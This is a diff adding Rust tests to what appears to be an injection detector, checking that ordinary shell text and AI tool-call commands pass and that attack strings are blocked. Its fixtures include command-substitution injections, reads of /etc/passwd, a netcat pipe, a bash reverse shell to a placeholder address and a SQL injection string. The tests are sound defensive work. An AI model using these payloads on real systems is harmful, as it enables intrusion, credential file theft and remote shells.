@@ -323,6 +323,99 @@ fn many_mentions() {
     check.done();
 }
 
+/// Programs that a text shows or speaks of: a line of one begins as those of a shell do.
+#[test]
+fn programs_in_texts() {
+    let mut check = Check::default();
+    for text in [
+        "version=$(git describe --tags)\ndocker build -t app:\"$version\" . && docker push app",
+        "export V=$(cat VERSION)",
+        "VERSION := $(shell git describe --tags)\nall:\n\tgo build ./...\n",
+        "wc -l data/*.csv; du -sh data\necho $(date) > stamp.txt",
+        "gcloud run deploy api --image gcr.io/x/api:$(git rev-parse --short HEAD)",
+        "try: sudo systemctl restart nginx && journalctl -u nginx -n 50 --no-pager",
+        "<ac:plain-text-body><![CDATA[for h in db1 db2; do ssh $h 'systemctl status x | head -3'; done]]></ac:plain-text-body>",
+        "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
+        "> What does `umask` say?\n\n$ umask; id -u\n0022\n1000",
+        "Python has a built-in ``dir`` function, and (``pwd``, ``ls``, and ``cp``) do the rest",
+    ] {
+        for name in ["comment", "readme", "message"] {
+            check.passes(Class::Command, name, text);
+        }
+        check.blocked(Class::Command, "host", &format!("x;{text};cat /etc/passwd"));
+    }
+    for text in [
+        "x``id`y``$(id)",
+        "$(id)",
+        "hello $(id)",
+        "a b=$(id)",
+        "a=;b=$(cat /etc/passwd)",
+        "if you like $(id)",
+        "for me $(id)",
+        "note: $(id)",
+        "note: x;cat /etc/passwd",
+        "x 1 -- $(id)",
+        "version=$(cat /etc/passwd)",
+        "version=$(curl http://a.example/x)",
+        "try: ls $(wget http://a.example/x)",
+        "if [ 1 ]; c''at /etc/passwd",
+    ] {
+        for name in ["comment", "readme", "message"] {
+            check.blocked(Class::Command, name, text);
+        }
+    }
+    check.done();
+}
+
+/// The command line that a language model gives a tool, as the protocols write it: nothing breaks out of a
+/// line that begins with a command.
+#[test]
+fn calls_of_tools() {
+    const CALL: &str = "messages.messages.tool_calls.tool_calls.function.arguments";
+    const NAMES: [&str; 2] = ["params.arguments.command", "messages.content.content.input.command"];
+    let mut check = Check::default();
+    for line in [
+        "cd /app && pytest -q",
+        "curl -s http://localhost:3000/health | jq .",
+        "kill $(lsof -ti:3000) || true",
+        "which node; node -v",
+        "id; whoami; pwd",
+        "python3 -c \"print(1)\"",
+    ] {
+        for name in NAMES {
+            check.at(Place::Json, Class::Command, name, line, false);
+        }
+        let document = format!("{{\"cmd\": \"{}\"}}", line.replace('"', "\\\""));
+        check.at(Place::Json, Class::Command, CALL, &document, false);
+        let words = document.replace(": ", ": [\"bash\", \"-lc\", ").replace('}', "]}");
+        check.at(Place::Json, Class::Command, CALL, &words, false);
+        let document = document.replace("cmd", "repo");
+        check.at(Place::Json, Class::Command, CALL, &document, true);
+        for name in ["command", "params.arguments.repo", "params.command", "ids.arguments.command"] {
+            check.at(Place::Json, Class::Command, name, line, true);
+        }
+        for place in [Place::Query, Place::Form, Place::Cookie] {
+            check.at(place, Class::Command, NAMES[0], line, true);
+        }
+    }
+    check.at(Place::Json, Class::Sqli, NAMES[0], "psql -c \"select count(*) from users\"", false);
+    for line in [
+        ";cat /etc/passwd",
+        "x;id",
+        "$(id)",
+        "a b | nc 192.0.2.1 99",
+        "ls; c''at /etc/hosts",
+        "cat /etc/passwd",
+        "bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
+        "' or 1=1-- -",
+    ] {
+        for name in NAMES {
+            check.at(Place::Json, Class::Command, name, line, true);
+        }
+    }
+    check.done();
+}
+
 /// A class is no web shell; what takes something of a request, runs or reaches something in a source of any
 /// length is.
 #[test]
